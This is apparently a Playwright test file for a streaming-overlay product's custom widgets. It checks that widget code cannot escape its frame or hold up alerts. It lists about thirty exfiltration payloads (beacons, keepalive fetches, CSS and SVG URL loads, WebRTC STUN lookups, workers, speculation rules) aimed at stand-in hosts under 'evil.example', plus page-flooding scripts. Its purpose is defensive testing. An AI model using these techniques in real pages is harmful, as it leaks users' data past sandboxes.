import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium } from '@playwright/test';
import { donate } from './support/api.ts';
import { notInObs, obsChromium, obsFlags } from './support/chromium.ts';
import { changeSettings } from './support/companion.ts';
import { openProfile } from './support/context.ts';
import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
import { openEvilServer } from './support/evilServer.ts';
import { alertOf, expect, test } from './support/fixtures.ts';

/* Ways out of a widget's frame: text that is written in pieces, APIs that send data later, and code in URLs (SPEC CUS-43). */

const desktopChromium = process.env.OVATION_DESKTOP_CHROMIUM ?? '/usr/bin/chromium';
/** Whether to test in a desktop Chromium. Also true if `OVATION_DESKTOP_CHROMIUM` names a missing file: the tests must then fail. */
const hasDesktop = process.env.OVATION_DESKTOP_CHROMIUM !== undefined || existsSync(desktopChromium);

/**
 * `EVIL` is the address of a server that must not receive anything. `HOST` is a host name that must not be looked up. `sub` is a subdomain,
 * which is different for each attack.
 */
const attacks: Readonly<Record<string, string>> = {
  'shadow-in-parts':
    "document.write('<div><template shadowroot'); document.write('mode=\"open\"><link rel=preconnect href=' + HOST + '><img src=' + EVIL + 'shadow></template></div>')",
  'closed-shadow-in-parts':
    "for (const part of ['<b><temp', 'late shadowrootm', 'ode=closed><link rel=dns-prefetch href=' + HOST, '></template></b>']) document.write(part)",
  'rules-by-url':
    "add('script', { type: 'speculationrules', src: URL.createObjectURL(new Blob([JSON.stringify({ prefetch: [{ urls: [EVIL + 'rules'] }] })], { type: 'application/speculationrules+json' })) })",
  'rules-of-the-document':
    "add('a', { href: EVIL + 'rules-anchor', textContent: 'x' }); add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'document', where: { href_matches: '/*' }, eagerness: 'immediate' }], prerender: [{ source: 'document', eagerness: 'immediate' }] }) })",
  beacon: "navigator.sendBeacon(EVIL + 'beacon', new Blob([secret])); navigator.sendBeacon(HOST + '/beacon', new FormData())",
  'beacon-at-the-end': "addEventListener('pagehide', () => navigator.sendBeacon(EVIL + 'pagehide', secret))",
  'later-fetch': "fetchLater(EVIL + 'later', { method: 'POST', body: secret, activateAfter: 0 })",
  'kept-alive': "fetch(EVIL + 'keepalive', { method: 'POST', body: secret, keepalive: true, mode: 'no-cors' })",
  'import-by-cssom':
    "const s = add('style', { textContent: 'a{}' }); s.sheet.insertRule('@import url(' + EVIL + 'insert-rule)', 0); const c = new CSSStyleSheet(); c.replaceSync('@import url(' + EVIL + 'replace); a{}'); document.adoptedStyleSheets = [c]",
  'import-by-text-nodes': "const s = add('style', {}); s.append('@im', 'port \"' + HOST + '/a.css\"', ';')",
  'rule-by-cssom':
    "const s = add('style', { textContent: 'body{}' }); s.sheet.cssRules[0].style.cssText = '--a: url(' + EVIL + 'variable); background: var(--a)'; s.sheet.cssRules[0].style.setProperty('mask-image', 'image-set(url(' + EVIL + 'mask) 1x)')",
  'property-by-css':
    "CSS.registerProperty({ name: '--x', syntax: '<url>', inherits: true, initialValue: 'url(' + EVIL + 'property)' }); document.body.style.background = 'var(--x)'",
  'svg-image':
    "const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.href.baseVal = EVIL + 'image'; svg().append(i)",
  'svg-fe-image':
    'const s = svg(); s.innerHTML = \'<filter id=f2><feImage xlink:href="\' + EVIL + \'fe"/></filter><rect width=9 height=9 filter="url(#f2)"/><set attributeName=href to="\' + HOST + \'"/>\'',
  'svg-animated':
    "const s = svg(); s.innerHTML = '<image width=9 height=9 href=\"data:,\"><animate attributeName=href values=\"' + EVIL + 'animate;' + EVIL + 'animate2\" dur=1s begin=0s repeatCount=indefinite /></image>'",
  'data-channel':
    "for (const name of Object.getOwnPropertyNames(window)) if (/RTC/i.test(name)) try { const c = new window[name]({ iceServers: [{ urls: 'stun:' + HOST.slice(8) }, { urls: 'stun:127.0.0.1:' + UDP }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); } catch {}",
  'blob-worker':
    "const code = URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'worker\")'], { type: 'text/javascript' })); try { new Worker(code, { type: 'module' }); } catch {} navigator.serviceWorker?.register(code)",
  'worker-of-a-prototype':
    "const W = Object.getOwnPropertyNames(window).map((n) => window[n]).find((o) => o?.prototype && 'terminate' in o.prototype); new W('data:text/javascript,fetch(\"' + EVIL + 'worker2\")')",
  'import-of-data': "import('data:text/javascript,fetch(\"' + EVIL + 'data-import\"); import(\"' + EVIL + 'nested-import\")')",
  'import-of-a-blob':
    "import(URL.createObjectURL(new Blob(['import(\"' + EVIL + 'blob-import\"); new Image().src = \"' + HOST + '\"'], { type: 'text/javascript' })))",
  'import-of-css':
    "import(EVIL + 'a.css', { with: { type: 'css' } }); import('data:text/css,@import url(' + EVIL + 'b.css)', { with: { type: 'css' } })",
  'import-map': "add('script', { type: 'importmap', textContent: JSON.stringify({ imports: { x: EVIL + 'map' } }) }); import('x')",
  download:
    "add('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click(); add('a', { href: EVIL + 'download', download: 'y' }).click()",
  'focus-and-pointer':
    "document.body.requestPointerLock(); parent.focus(); top.focus(); window.focus(); window.open(EVIL + 'popup', '_blank')",
  dialogs: "print(); alert(secret); add('dialog', {}).showModal(); document.body.requestFullscreen(); navigator.share?.({ url: EVIL })",
  'web-socket-by-child':
    "const f = add('iframe', {}); new f.contentWindow.WebSocket(EVIL.replace('http', 'ws')); f.contentWindow.fetch(EVIL + 'child')",
  'compressed-reports':
    "new ReportingObserver(() => {}).observe(); add('meta', { httpEquiv: 'Reporting-Endpoints', content: 'default=\"' + EVIL + 'report\"' }); add('meta', { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-to default\" })",
  'image-sets':
    "add('img', { srcset: EVIL + 'srcset 1x', sizes: '1px' }); const p = add('picture', {}); p.innerHTML = '<source srcset=\"' + HOST + '\"><img>'",
  'cursor-and-content':
    "document.body.style.cssText = 'cursor: url(' + EVIL + 'cursor), auto; list-style-image: url(' + EVIL + 'list); border-image: url(' + HOST + ')'",
  'shape-and-offset':
    "add('i', { style: 'float: left; shape-outside: url(' + EVIL + 'shape); offset-path: url(' + EVIL + 'offset#x); clip-path: url(' + EVIL + 'clip#x)' })",
};

/** Attacks that need a lookup of a host. After a click, the widget leaves its own page. */
const resolving = `
  const HOST = 'ada-secret.evil.example';
  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
  window.addEventListener('onWidgetLoad', () => {
    const runs = [
      ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'stylesheet', 'icon'].map((rel) => () => add('link', { rel, href: 'http://' + HOST + '/' + rel })),
      () => add('meta', { httpEquiv: 'x-dns-prefetch-control', content: 'on' }),
      () => add('a', { href: 'https://' + HOST + '/', textContent: 'x' }).dispatchEvent(new MouseEvent('mouseover', { bubbles: true })),
      () => fetch('https://' + HOST + '/'),
      () => (new Image().src = 'http://' + HOST + '/'),
      () => new WebSocket('ws://' + HOST + '/'),
      () => add('iframe', { src: 'http://' + HOST + '/' }),
      () => new (add('iframe', {}).contentWindow.RTCPeerConnection)({ iceServers: [{ urls: 'stun:' + HOST }] }).createDataChannel('x'),
      () => new Worker(URL.createObjectURL(new Blob(["fetch('http://" + HOST + "/')"]))),
      () => (top.location = 'http://' + HOST + '/'),
    ];
    for (const run of runs) try { run(); } catch {}
    document.querySelector('#tried').textContent = 'all';
  });
  window.addEventListener('click', () => setTimeout(() => (location = 'http://' + HOST + '/'), 1_500));
`;

/** Code that tries to block the page in different ways while an alert is shown. */
const floods: Readonly<Record<string, string>> = {
  microtasks: 'const again = () => Promise.resolve().then(again); again();',
  frames:
    'const again = () => { for (let i = 0; i < 50; i += 1) requestAnimationFrame(() => {}); requestAnimationFrame(again); const end = performance.now() + 30; while (performance.now() < end); }; again();',
  'sizes of a box':
    "const b = document.body.appendChild(document.createElement('i')); b.style.display = 'block'; new ResizeObserver(() => { b.style.width = Math.random() * 500 + 'px'; for (let i = 0; i < 1e6; i += 1); }).observe(b); setInterval(() => (b.style.width = Math.random() * 500 + 'px'), 0);",
  'messages to itself': "onmessage = () => { for (let i = 0; i < 2; i += 1) postMessage(0, '*'); }; postMessage(0, '*');",
};

const builds = [
  { name: 'of the tests', path: () => obsChromium(127) },
  // The second build is about as new as the Chromium of OBS 33.
  hasDesktop ? { name: 'of a desktop', path: async () => desktopChromium } : { name: 'nearest to OBS 33’s', path: () => obsChromium(149) },
];

for (const { name, path } of builds)
  test(`[CUS-43] no text in parts, later call, style or import reaches a socket or a resolver in the Chromium ${name}`, async ({
    product,
  }) => {
    const executablePath = await path();
    const evil = await openEvilServer();
    const prelude = `
      const EVIL = 'http://127.0.0.1:${evil.tcpPort}/', UDP = ${evil.udpPort}, secret = 'ada';
      const add = (tag, properties) => document.body.appendChild(Object.assign(document.createElement(tag), properties));
      const svg = () => document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));`;
    const [written, called] = [true, false].map((isWritten) =>
      Object.entries(attacks).filter(([, code]) => code.includes('document.write') === isWritten),
    );
    for (const [index, [of, code]] of (written ?? []).entries()) {
      const html = `<p id="tried">here</p><script>{ ${prelude} const HOST = 'https://${of}.evil.example'; try { ${code} } catch {} }</script>`;
      await addCustomWidget(product, { name: of, html }, { element: of, rect: { x: 40 + 150 * index, y: 460, width: 140, height: 60 } });
    }
    const runs = (called ?? []).map(([of, code]) => `async () => { const HOST = 'https://${of}.evil.example'; ${code} }`);
    const js = `${prelude} addEventListener('onWidgetLoad', async () => {
      for (const run of [${runs.join(',\n')}]) { run().catch(() => {}); await new Promise((done) => setTimeout(done, 50)); }
      document.querySelector('#tried').textContent = 'all';
    });`;
    await addCustomWidget(product, { html: '<p id="tried"></p>', js });
    const rect = { x: 700, y: 40, width: 140, height: 60 };
    await addCustomWidget(product, { html: '<p id="tried"></p>', js: resolving }, { element: 'resolves', rect });
    const profile = await mkdtemp(join(tmpdir(), 'ovation-escapes-'));
    const log = join(profile, 'net-log.json');
    const isNew = name === 'of a desktop';
    const context = await openProfile(chromium, profile, {
      ...(executablePath && { executablePath }),
      headless: !isNew,
      args: [...obsFlags, ...(isNew ? ['--headless=new'] : []), `--log-net-log=${log}`],
      ignoreDefaultArgs: notInObs,
    });
    const downloads: string[] = [];
    const overlay = await context.newPage();
    overlay.on('download', (download) => downloads.push(download.url()));
    overlay.on('dialog', (dialog) => downloads.push(dialog.message()));
    await overlay.goto(product.overlay);
    await expect(widgetFrame(overlay).locator('#tried')).toHaveText('all');
    const tried = widgetFrame(overlay, 'resolves').locator('#tried');
    await expect(tried).toHaveText('all');
    await tried.dispatchEvent('click');
    await expect(overlay.locator('[data-box="resolves"] iframe.frame')).toHaveCount(0);
    await overlay.waitForTimeout(1_500); // waits a fixed time, because an attack that sends nothing gets no answer
    const { length: pages } = context.pages();
    await overlay.goto('about:blank'); // when a page closes, it sends everything that it had not sent
    await overlay.waitForTimeout(500);
    await overlay.goto('http://heard.example/').catch(() => {}); // this host does not exist, but its lookup proves that the log contains lookups
    await context.close();
    const text = await readFile(log, 'utf8');
    await rm(profile, { recursive: true, force: true, maxRetries: 5 });
    evil.close();
    expect(evil.received).toEqual([]);
    expect(text).toContain('heard.example');
    expect([...new Set(text.match(/[\w-]+\.evil\.example/g))].sort()).toEqual([]);
    expect(downloads).toEqual([]);
    expect(pages).toBe(2);
  });

test('[CUS-42] a widget that floods its own page delays no alert', async ({ product, openOverlay }) => {
  await changeSettings(product, ({ boxes: elements }) => Object.assign(elements.alerts ?? {}, { durationMs: 2_000, gapMs: 0 }));
  const overlay = await openOverlay();
  for (const [name, code] of Object.entries(floods))
    await test.step(name, async () => {
      await addCustomWidget(product, {
        html: '<p id="state">loading</p>',
        js: `addEventListener('onWidgetLoad', () => (document.querySelector('#state').textContent = '${name}'));
          addEventListener('onEventReceived', () => { ${code} });`,
      });
      await expect(widgetFrame(overlay).locator('#state')).toHaveText(name);
      const { id } = await donate(product, { amount: 25, donorName: 'Ada' });
      await expect(alertOf(overlay, `donation.created:${id}`)).toBeVisible();
      await expect(alertOf(overlay, `donation.created:${id}`)).toBeHidden();
    });
});
